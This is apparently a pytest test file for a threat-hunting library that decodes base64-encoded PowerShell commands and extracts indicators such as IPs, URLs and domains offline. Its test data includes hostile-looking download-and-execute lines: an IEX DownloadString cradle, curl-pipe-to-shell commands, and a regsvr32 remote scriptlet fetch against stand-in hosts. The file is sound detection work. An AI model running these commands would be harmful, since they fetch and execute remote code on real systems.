"""Decoding hidden commands and extracting indicators, offline."""

import base64
import socket

import pytest

from hunting_lib.triage.indicators import decode_command_line, extract_indicators, ip_kind

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://45.77.12.34/a')"


def encode_ps(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def test_powershell_encoded_command_is_decoded_as_utf16():
    line = f"powershell.exe -nop -w hidden -enc {encode_ps(CRADLE)}"
    assert decode_command_line(line) == [CRADLE]


@pytest.mark.parametrize("switch", ["-enc", "-EncodedCommand", "/e", "-ec", "\u2013enco", "-EnCoDeD"])
def test_every_spelling_of_the_encoded_command_switch_decodes_without_msticpy(switch):
    from hunting_lib.triage.indicators import powershell_encoded_commands

    texts, rest = powershell_encoded_commands(f'powershell.exe -nop {switch} "{encode_ps(CRADLE)}" -x')
    assert texts == [CRADLE] and encode_ps(CRADLE) not in rest


def test_the_encoded_command_decodes_as_msticpys_unpacker_does():
    """The same blob, found by msticpy (no switch before it) and by the switch parser."""
    blob = encode_ps("Get-Process | Where-Object { $_.CPU -gt 100 } ; whoami /all")
    assert decode_command_line(f"x.exe /data:{blob}") == decode_command_line(f"powershell -enc {blob}")
    assert decode_command_line(f"powershell -enc {blob}") == ["Get-Process | Where-Object { $_.CPU -gt 100 } ; whoami /all"]


def test_long_words_do_not_load_msticpy():
    import subprocess
    import sys

    probe = ("import sys; from hunting_lib.triage.indicators import decode_command_line as d; "
             "r = d(r'cmd.exe /c msiexec.exe /i \\\\fs01\\GoogleChromeStandaloneEnterprise64.msi /quiet'); "
             "print(r, 'msticpy' in sys.modules)")
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=120)
    assert done.stdout.strip() == "[] False", done.stderr


def test_utf8_base64_is_decoded_too():
    blob = base64.b64encode(b"curl http://malicious.example.com/payload | sh").decode()
    assert decode_command_line(f"cmd /c echo {blob}") == ["curl http://malicious.example.com/payload | sh"]


def test_plain_command_lines_decode_to_nothing():
    assert decode_command_line(r"rundll32.exe C:\Windows\system32\Windows.StateRepositoryClient.dll,Go") == []
    assert decode_command_line("") == [] and decode_command_line(None) == []


def test_binary_blobs_are_not_reported_as_text():
    blob = base64.b64encode(bytes(range(256))).decode()
    assert decode_command_line(f"x.exe {blob}") == []


def test_indicators_from_command_and_decoded_text():
    found = extract_indicators([CRADLE, r"regsvr32 /s /n /u /i:http://91.200.1.2/x.sct scrobj.dll",
                                r"powershell -File C:\Scripts\a.ps1 -Server update.contoso-cdn.com 10.1.2.3"])
    pairs = set(zip(found["Type"], found["Value"]))
    assert ("ipv4", "45.77.12.34") in pairs and ("url", "http://45.77.12.34/a") in pairs
    assert ("url", "http://91.200.1.2/x.sct") in pairs
    assert ("dns", "update.contoso-cdn.com") in pairs
    # a.ps1 is a file name, not the domain a.ps
    assert not any(v.startswith("a.ps") for v in found["Value"])
    kinds = dict(zip(found["Value"], found["IPKind"]))
    assert kinds["45.77.12.34"] == "public" and kinds["10.1.2.3"] == "private"


def test_extraction_never_touches_the_network(monkeypatch, tmp_path):
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("network access attempted")

    import importlib

    import tldextract

    from hunting_lib.triage import indicators

    # Start from tldextract's own default (online) extractor with an empty cache, as a fresh
    # machine would: it then tries to download the public suffix list.
    monkeypatch.setenv("TLDEXTRACT_CACHE", str(tmp_path))
    importlib.reload(tldextract.tldextract)
    monkeypatch.setattr(tldextract, "extract", tldextract.tldextract.extract)
    indicators._offline_ioc_extractor.cache_clear()
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    found = extract_indicators(["connect to beacon.evil-example.net now"])
    assert "beacon.evil-example.net" in set(found["Value"])
    assert attempts == []


@pytest.mark.parametrize("value,kind", [("8.8.8.8", "public"), ("192.168.1.1", "private"),
                                        ("127.0.0.1", "private"), ("fe80::1", "private"),
                                        ("2001:4860:4860::8888", "public"), ("", "invalid"), ("x", "invalid")])
def test_ip_kind(value, kind):
    assert ip_kind(value) == kind


# A token is a file name where the command line uses it as one, whatever its top-level domain:
# .zip, .mov, .sh and .py are real TLDs (.zip and .mov are used in phishing).
KEPT_AS_DOMAINS = {
    "host of a URL": ("http://evil.zip/x", "evil.zip"),
    "https host with a port": ("powershell iwr https://login.mov:8443/a", "login.mov"),
    "curl's host": ("curl evil.zip -o a.zip", "evil.zip"),
    "curl's host in a shell's command": ('bash -c "curl -s evil.sh | sh"', "evil.sh"),
    "Invoke-WebRequest -Uri": (r"powershell Invoke-WebRequest -Uri setup.mov -OutFile C:\t\setup.exe", "setup.mov"),
    "a UNC server": (r"net use \\share.zip\drop", "share.zip"),
    "after an @": ("ssh admin@jump.py", "jump.py"),
    "a host switch of a script": (r'"C:\Python311\python.exe" -u run.py --host api.evil.py', "api.evil.py"),
    "wget's host": ("wget -O out.zip http://dl.mov/a", "dl.mov"),
    "BITS source": (r"Start-BitsTransfer -Source update.zip -Destination C:\t\u.exe", "update.zip"),
    "host and also a file name": (r"curl http://evil.zip/x -o C:\t\evil.zip", "evil.zip"),
}

DROPPED_AS_FILES = {
    "a Windows path": (r"C:\Users\a\payload.zip", "payload.zip"),
    "a relative path": (r"python.exe .\script.py", "script.py"),
    "a quoted path with spaces": (r'"C:\Program Files\a\b.py" -x', "b.py"),
    "a POSIX path": ("tar -xf /tmp/a.zip", "a.zip"),
    "a file in a URL's path": ("http://host.com/files/evil.zip", "evil.zip"),
    "a UNC path's file": (r"cmd /c copy \\fs01\patches\fix.zip C:\t", "fix.zip"),
    "a drive-relative path": (r"cmd /c C:evil.zip", "evil.zip"),
    "an escaped path": (r"C:\\Users\\a\\b.zip", "b.zip"),
    "a folder named like a domain": (r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\ngen.exe", "Microsoft.NET"),
    "the program": ("cmd.exe /c update.zip", "update.zip"),
    "a script host's script": ("python -u script.py --x 1", "script.py"),
    "a shell's script": ("sh install.sh", "install.sh"),
    "-Path": (r"powershell Expand-Archive -Path payload.zip -DestinationPath C:\x", "payload.zip"),
    "-OutFile": ("powershell iwr http://1.2.3.4/a -OutFile clip.mov", "clip.mov"),
    "curl -o": ("curl http://1.2.3.4/a -o a.zip", "a.zip"),
    "the start of a longer name": (r"powershell -File C:\Scripts\a.ps1", "a.ps"),
}


def _domains(text: str) -> set[str]:
    found = extract_indicators([text])
    return {v.lower() for v in found.loc[found["Type"] == "dns", "Value"]}


@pytest.mark.parametrize("case", sorted(KEPT_AS_DOMAINS))
def test_domains_with_file_like_tlds_are_kept(case):
    text, domain = KEPT_AS_DOMAINS[case]
    assert domain.lower() in _domains(text)


@pytest.mark.parametrize("case", sorted(DROPPED_AS_FILES))
def test_tokens_used_as_files_are_not_domains(case):
    text, name = DROPPED_AS_FILES[case]
    assert name.lower() not in _domains(text)


def test_the_file_rule_looks_at_the_use_not_the_extractor():
    """Every dropped case is one the extractor does report as a domain (else the test proves nothing)."""
    from hunting_lib.triage.indicators import _offline_ioc_extractor

    extractor = _offline_ioc_extractor()
    for text, name in DROPPED_AS_FILES.values():
        assert name.lower() in {v.lower() for v in extractor.extract(text, ioc_types=["dns"])["dns"]}, text
